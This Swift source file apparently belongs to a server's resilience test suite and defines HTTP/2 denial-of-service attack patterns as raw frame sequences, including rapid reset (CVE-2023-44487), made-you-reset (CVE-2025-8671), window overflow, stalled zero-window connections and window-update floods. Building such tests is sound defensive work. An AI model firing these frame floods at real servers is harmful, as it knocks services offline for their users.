/// Attacks by streams: ended as soon as they are opened, and never read.
extension Attack {
  static let resets = [
    // CVE-2023-44487.
    streams("rapid-reset", count: 4000, perPiece: 50) { number in
      opened(number, then: AttackFrame.make(.reset, 0, number, AttackFrame.number(8)))
    },
    // CVE-2025-8671: the server must reset the stream itself, because a window is changed by nothing,
    streams("made-you-reset", count: 4000, perPiece: 50) { number in
      opened(number, then: AttackFrame.make(.windowUpdate, 0, number, AttackFrame.number(0)))
    },
    // by too much,
    streams("overflow", count: 4000, perPiece: 50) { number in
      opened(number, then: AttackFrame.make(.windowUpdate, 0, number, AttackFrame.number(0x7fff_ffff)))
    },
    // or because data comes after the end.
    streams("late-data", count: 4000, perPiece: 50) { stream in
      AttackFrame.headers(stream, AttackFrame.block(of: "ClientStream"), flags: 5)
        + AttackFrame.make(.data, 0, stream, [0])
    },
    // The server has ended these streams, and the client has not.
    streams("half-closed", count: 4000, perPiece: 50, then: .answers(50), finally: nil) { stream in
      AttackFrame.headers(stream, AttackFrame.block(of: "Nothing"))
    },
  ]

  private static func opened(_ number: Int, then end: [UInt8]) -> [UInt8] {
    AttackFrame.headers(number, AttackFrame.block(of: "ClientStream")) + end
  }

  static let windows = [
    stalled("never-read", by: []),
    stalled("zero-window", by: AttackFrame.window(0)),
    // The window of each stream opens by a byte, again and again.
    flood(
      "data-dribble",
      after: AttackFrame.window(0) + endlessStreams,
      allStreams { AttackFrame.make(.windowUpdate, 0, $0, AttackFrame.number(1)) }
    ),
    // All windows open and close.
    flood(
      "window-changes",
      after: allStreams { AttackFrame.headers($0, AttackFrame.block(of: "ClientStream")) },
      AttackFrame.window(0) + AttackFrame.window(0x7fff_ffff)
    ),
  ]

  private static func allStreams(_ make: (Int) -> [UInt8]) -> [UInt8] {
    stride(from: 1, to: 200, by: 2).flatMap(make)
  }

  /// A hundred calls for 2^28 messages of ten thousand bytes.
  private static let endlessStreams = allStreams { stream in
    AttackFrame.headers(stream, AttackFrame.block(of: "ServerStream"))
      + AttackFrame.data(stream, AttackFrame.message([0x08, 0x80, 0x80, 0x80, 0x80, 0x01, 0x10, 0x90, 0x4e]))
  }

  /// Connections that ask for much and read nothing.
  private static func stalled(_ name: String, by settings: [UInt8]) -> Attack {
    Attack(name: name, width: 20, steps: [.send(AttackFrame.greeting + settings + endlessStreams), .stay])
  }
}
